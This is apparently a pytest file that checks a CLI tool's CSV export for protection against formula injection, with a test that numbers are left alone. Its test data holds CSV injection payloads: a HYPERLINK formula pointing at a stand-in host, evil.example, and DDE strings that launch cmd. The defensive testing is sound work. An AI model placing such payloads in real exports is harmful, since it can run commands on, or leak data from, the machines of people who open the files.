"""CSV output a spreadsheet opens without running formulas (OWASP CSV injection): `calmline query
--format csv` writes text cells that start like a formula with a leading ', numbers as numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pandas as pd

from tests.conftest import ROOT

FORMULAS = {"link": '=HYPERLINK("http://evil.example/?x=1", "click")', "plus": "+1+cmd|' /C calc'!A0",
            "minus": "-2+3+cmd|' /C calc'!A0", "at": "@SUM(1+1)*cmd|' /C calc'!A0", "tab": "\t=1+1",
            "cr": "\r=1+1"}
SQL = ("SELECT " + ", ".join(f"$${text}$$ AS {name}" for name, text in FORMULAS.items())
       + ", -3 AS negative, -2.5 AS negative_decimal, '-3' AS negative_text, 'plain' AS plain, "
         "'a=b' AS inside, NULL::VARCHAR AS missing")


def expect_safe(row: dict) -> None:
    for name, text in FORMULAS.items():
        assert row[name] == "'" + text, name
    assert row["negative"] == "-3" and row["negative_decimal"] == "-2.5" and row["negative_text"] == "-3"
    assert row["plain"] == "plain" and row["inside"] == "a=b" and row["missing"] == ""


def test_calmline_query_csv_neutralises_formulas_and_keeps_numbers(sample_db):
    proc = subprocess.run([sys.executable, "-m", "calmline", "query", "--sql", SQL, "--db", str(sample_db),
                           "--format", "csv"], capture_output=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr
    [row] = list(csv.DictReader(io.StringIO(proc.stdout.decode("utf-8"), newline="")))
    expect_safe(row)


def test_spreadsheet_safe_leaves_numbers_and_the_original_frame_alone():
    from calmline.terminal import spreadsheet_safe

    frame = pd.DataFrame({"n": [-3, 4], "x": [-1.5, None], "t": ["=1+1", None], "d": ["-3", "-x"]})
    safe = spreadsheet_safe(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["t"].tolist()[0] == "'=1+1" and safe["t"].isna().tolist() == [False, True]
    assert safe["d"].tolist() == ["-3", "'-x"] and frame["t"][0] == "=1+1"
